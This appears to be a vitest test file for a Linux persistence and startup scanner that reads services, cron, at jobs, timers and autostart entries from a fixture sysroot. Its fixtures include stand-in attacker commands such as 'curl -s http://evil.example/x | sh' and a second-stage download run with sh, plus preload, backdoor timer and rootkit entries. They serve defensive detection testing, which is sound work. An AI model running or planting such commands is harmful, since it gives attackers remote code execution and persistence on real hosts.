/** The configuration readers of the Linux layer against a fixture sysroot. */
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLinuxPlatform } from '../../../src/agent/platform/linux.js';
import { authorizedKeysPaths } from '../../../src/agent/platform/linux/persistence.js';
import { Sysroot } from '../../../src/agent/platform/linux/sysroot.js';
import { systemdRuntime } from '../../../src/agent/platform/linux/systemd-runtime.js';
import type { PersistenceInfo, PlatformLayer } from '../../../src/agent/platform/types.js';
import { AT_RUN_AT, atJobName, buildSysroot } from './fixture-sysroot.js';
import { tempDir } from './helpers.js';

const fixture = tempDir('lr-sysroot-');
let platform: PlatformLayer;

beforeAll(() => {
  buildSysroot(fixture.dir);
  platform = createLinuxPlatform({ sysroot: fixture.dir });
});
afterAll(() => fixture.cleanup());

const sha256 = (rel: string): string =>
  createHash('sha256')
    .update(readFileSync(path.join(fixture.dir, rel)))
    .digest('hex');

describe('listServices', () => {
  it('reads systemd units with precedence, drop-ins and enablement', async () => {
    const services = await platform.listServices();
    const by = new Map(services.map((s) => [s.name, s]));
    expect(by.get('evil.service')).toEqual({
      name: 'evil.service',
      kind: 'systemd',
      state: 'unknown',
      subState: 'unknown',
      enabled: 'enabled',
      unitPath: '/etc/systemd/system/evil.service',
      execStart: '/usr/local/bin/evil --override',
      description: 'Totally legit service',
    });
    expect(by.get('ssh.service')).toMatchObject({
      enabled: 'disabled',
      unitPath: '/lib/systemd/system/ssh.service',
      execStart: '/usr/sbin/sshd -D $SSHD_OPTS',
    });
    expect(by.get('systemd-static.service')?.enabled).toBe('static');
    // /etc wins over /lib: the admin's /dev/null link masks the vendor unit
    expect(by.get('masked.service')).toMatchObject({
      enabled: 'masked',
      unitPath: '/etc/systemd/system/masked.service',
      execStart: null,
    });
  });

  it('lists SysV init scripts with their runlevel links', async () => {
    const services = await platform.listServices();
    expect(services.find((s) => s.kind === 'sysv' && s.name === 'legacy')).toMatchObject({
      enabled: 'enabled',
      unitPath: '/etc/init.d/legacy',
      description: 'Legacy daemon',
    });
    expect(services.some((s) => s.name === 'README')).toBe(false);
  });

  it('works on an empty sysroot', async () => {
    const empty = tempDir();
    try {
      expect(await createLinuxPlatform({ sysroot: empty.dir }).listServices()).toEqual([]);
    } finally {
      empty.cleanup();
    }
  });
});

describe('systemdRuntime', () => {
  it('tells running units from never-started ones and leaves the rest unknown', async () => {
    const t = tempDir();
    try {
      const cg = path.join(t.dir, 'cgroup');
      mkdirSync(path.join(cg, 'system.slice/ssh.service'), { recursive: true });
      writeFileSync(path.join(cg, 'system.slice/ssh.service/cgroup.events'), 'populated 1\nfrozen 0\n');
      mkdirSync(path.join(cg, 'system.slice/stopped.service'), { recursive: true });
      writeFileSync(path.join(cg, 'system.slice/stopped.service/cgroup.events'), 'populated 0\nfrozen 0\n');
      const units = path.join(t.dir, 'units');
      mkdirSync(units);
      writeFileSync(path.join(units, 'invocation:oneshot.service'), '');
      const lookup = await systemdRuntime({ cgroupRoot: cg, unitsRoot: units });
      expect(lookup('ssh.service')).toEqual({ state: 'active', subState: 'running' });
      expect(lookup('oneshot.service')).toEqual({ state: 'unknown', subState: 'unknown' });
      expect(lookup('never.service')).toEqual({ state: 'inactive', subState: 'dead' });
    } finally {
      t.cleanup();
    }
  });
});

describe('listScheduledTasks', () => {
  it('reads system, cron.d and per-user crontabs with line numbers', async () => {
    const cron = (await platform.listScheduledTasks()).filter((t) => t.kind === 'cron');
    expect(cron).toContainEqual({
      kind: 'cron',
      source: '/etc/crontab',
      user: 'root',
      schedule: '@reboot',
      command: '/opt/evil/boot.sh',
      line: 6,
    });
    expect(cron).toContainEqual({
      kind: 'cron',
      source: '/etc/cron.d/x',
      user: 'www-data',
      schedule: '*/5 * * * *',
      command: 'curl -s http://evil.example/x | sh',
      line: 3,
    });
    expect(cron).toContainEqual({
      kind: 'cron',
      source: '/var/spool/cron/crontabs/alice',
      user: 'alice',
      schedule: '0 3 * * 1',
      command: '/home/alice/backup.sh --full',
      line: 3,
    });
    expect(cron).toContainEqual({
      kind: 'cron',
      source: '/etc/cron.daily/logrotate',
      user: 'root',
      schedule: 'daily',
      command: '/etc/cron.daily/logrotate',
      line: null,
    });
    expect(
      cron.some(
        (t) => t.source.endsWith('.placeholder') || t.command.startsWith('SHELL') || t.command.startsWith('MAILTO'),
      ),
    ).toBe(false);
  });

  it('reads systemd timers with the command of the unit they start', async () => {
    const timers = (await platform.listScheduledTasks()).filter((t) => t.kind === 'systemd-timer');
    expect(timers).toContainEqual({
      kind: 'systemd-timer',
      source: '/etc/systemd/system/backdoor.timer',
      user: 'alice',
      schedule: 'OnBootSec=5min; OnUnitActiveSec=1h',
      command: '/home/alice/.local/bin/beacon',
      line: null,
    });
    expect(timers).toContainEqual({
      kind: 'systemd-timer',
      source: '/lib/systemd/system/apt-daily.timer',
      user: 'root',
      schedule: 'OnCalendar=*-*-* 6,18:00',
      command: '/usr/lib/apt/apt.systemd.daily update',
      line: null,
    });
  });

  it('reads pending at jobs', async () => {
    const at = (await platform.listScheduledTasks()).filter((t) => t.kind === 'at');
    expect(at).toEqual([
      {
        kind: 'at',
        source: `/var/spool/cron/atjobs/${atJobName(AT_RUN_AT)}`,
        user: 'alice',
        schedule: AT_RUN_AT.toISOString(),
        command: 'curl -s http://evil.example/stage2 -o /tmp/s2; sh /tmp/s2',
        line: null,
      },
    ]);
  });
});

describe('listStartupItems', () => {
  it('lists XDG autostart (system and per user), rc.local and profile.d', async () => {
    const items = await platform.listStartupItems();
    expect(items.find((i) => i.path === '/etc/xdg/autostart/x.desktop')).toMatchObject({
      kind: 'xdg-autostart',
      name: 'X Helper',
      exec: '/usr/bin/x-helper --tray',
      owner: 'root',
    });
    expect(items.find((i) => i.path === '/home/alice/.config/autostart/updater.desktop')).toMatchObject({
      name: 'Updater (disabled)',
      exec: '/home/alice/.local/bin/upd',
    });
    expect(items.find((i) => i.kind === 'rc.local')).toMatchObject({
      path: '/etc/rc.local',
      exec: '/opt/evil/start &',
    });
    expect(items.filter((i) => i.kind === 'profile.d').map((i) => i.name)).toEqual(['evil.sh', 'huge.sh', 'link.sh']);
    for (const i of items) expect(Number.isNaN(Date.parse(i.mtime))).toBe(false);
  });
});

describe('listPersistence', () => {
  let records: PersistenceInfo[];
  const at = (p: string): PersistenceInfo | undefined => records.find((r) => r.path === p);

  beforeAll(async () => {
    records = await platform.listPersistence();
  });

  it('lists each location once, with device paths', () => {
    const paths = records.map((r) => r.path);
    expect(new Set(paths).size).toBe(paths.length);
    expect(paths.every((p) => p.startsWith('/') && !p.startsWith(fixture.dir))).toBe(true);
  });

  it('hashes files and describes them', () => {
    expect(at('/etc/ld.so.preload')).toEqual({
      category: 'ld-preload',
      path: '/etc/ld.so.preload',
      owner: 'root',
      mode: '-rw-r--r--',
      mtime: '2024-01-02T03:04:05.000Z',
      size: 33,
      sha256: sha256('etc/ld.so.preload'),
      detail: 'preloads /lib/x86_64-linux-gnu/libevil.so',
    });
    expect(at('/home/alice/.ssh/authorized_keys')).toMatchObject({
      category: 'authorized_keys',
      detail: '2 keys (1 with a forced command)',
      sha256: sha256('home/alice/.ssh/authorized_keys'),
    });
    expect(at('/var/www/.ssh/authorized_keys')?.detail).toBe('1 key');
    expect(at('/etc/ssh/keys/alice')?.category).toBe('authorized_keys'); // from sshd_config's AuthorizedKeysFile
    expect(at('/etc/crontab')).toMatchObject({ category: 'cron', detail: '2 cron lines' });
    expect(at('/var/spool/cron/crontabs/alice')).toMatchObject({ category: 'cron', detail: '1 cron line' });
    expect(at('/etc/systemd/system/evil.service')).toMatchObject({
      category: 'systemd',
      detail: 'ExecStart=/usr/local/bin/evil --daemon',
    });
    expect(at('/etc/systemd/system/evil.service.d/override.conf')?.detail).toBe(
      'ExecStart=/usr/local/bin/evil --override',
    );
    expect(at('/home/alice/.config/systemd/user/miner.service')?.category).toBe('systemd');
    expect(at('/etc/systemd/system/backdoor.timer')).toMatchObject({
      category: 'systemd-timer',
      detail: 'OnBootSec=5min; OnUnitActiveSec=1h',
    });
    expect(at('/lib/systemd/system/apt-daily.timer')?.category).toBe('systemd-timer');
    expect(at('/etc/init.d/legacy')).toMatchObject({ category: 'init', mode: '-rwxr-xr-x' });
    expect(at('/etc/rc.local')).toMatchObject({ category: 'init', detail: '/opt/evil/start &' });
    expect(at('/etc/profile')?.category).toBe('shell-rc');
    expect(at('/home/alice/.bashrc')).toMatchObject({ category: 'shell-rc', detail: '2 lines' });
    expect(at('/root/.bashrc')?.category).toBe('shell-rc');
    expect(at('/etc/udev/rules.d/99-evil.rules')?.detail).toBe('1 rule; runs /opt/evil/udev.sh');
    expect(at('/etc/modules-load.d/evil.conf')?.detail).toBe('loads rootkit');
    expect(at('/etc/modules')?.category).toBe('modules-load');
    expect(at('/etc/xdg/autostart/x.desktop')).toMatchObject({
      category: 'xdg-autostart',
      detail: 'Exec=/usr/bin/x-helper --tray',
    });
    expect(at(`/var/spool/cron/atjobs/${atJobName(AT_RUN_AT)}`)?.category).toBe('at');
  });

  it('does not list vendor units other than timers, nor missing files', () => {
    expect(at('/lib/systemd/system/ssh.service')).toBeUndefined();
    expect(at('/home/alice/.profile')).toBeUndefined();
    expect(records.some((r) => r.path.startsWith('/nonexistent'))).toBe(false);
  });

  it('follows symlinks inside the sysroot only, and reports masks', () => {
    expect(at('/etc/profile.d/link.sh')).toMatchObject({
      mode: 'lrwxrwxrwx',
      sha256: sha256('etc/passwd'),
      detail: 'symlink to /etc/passwd; 5 lines',
    });
    expect(at('/etc/systemd/system/multi-user.target.wants/evil.service')?.sha256).toBe(
      sha256('etc/systemd/system/evil.service'),
    );
    expect(at('/etc/systemd/system/masked.service')).toMatchObject({
      sha256: null,
      detail: 'symlink to /dev/null (masked)',
    });
  });

  it('never opens a FIFO and does not hash files above 64 MiB', () => {
    expect(at('/home/alice/.zshrc')).toMatchObject({
      mode: 'prw-r--r--',
      sha256: null,
      detail: 'not a regular file (fifo)',
    });
    expect(at('/etc/profile.d/huge.sh')).toMatchObject({
      size: 65 * 1024 * 1024,
      sha256: null,
      detail: '68157440 bytes: larger than 64 MiB, not hashed',
    });
  });
});

describe('Sysroot', () => {
  it('resolves absolute and relative symlinks inside the root', async () => {
    const root = new Sysroot(fixture.dir);
    expect(await root.resolve('/etc/profile.d/link.sh')).toBe('/etc/passwd');
    expect(await root.resolve('/etc/rc2.d/S01legacy')).toBe('/etc/init.d/legacy');
    expect(root.device(path.join(fixture.dir, 'etc/passwd'))).toBe('/etc/passwd');
    expect((await root.homes()).map((h) => h.path)).toEqual(
      expect.arrayContaining(['/root', '/home/alice', '/var/www']),
    );
  });

  it('expands AuthorizedKeysFile tokens', () => {
    expect(
      authorizedKeysPaths(
        ['.ssh/authorized_keys %h/.ssh/k2 /etc/ssh/keys/%u /k/%U %%x none'],
        { user: 'bob', path: '/home/bob' },
        1002,
      ),
    ).toEqual(['/home/bob/.ssh/authorized_keys', '/home/bob/.ssh/k2', '/etc/ssh/keys/bob', '/k/1002', '/home/bob/%x']);
  });
});
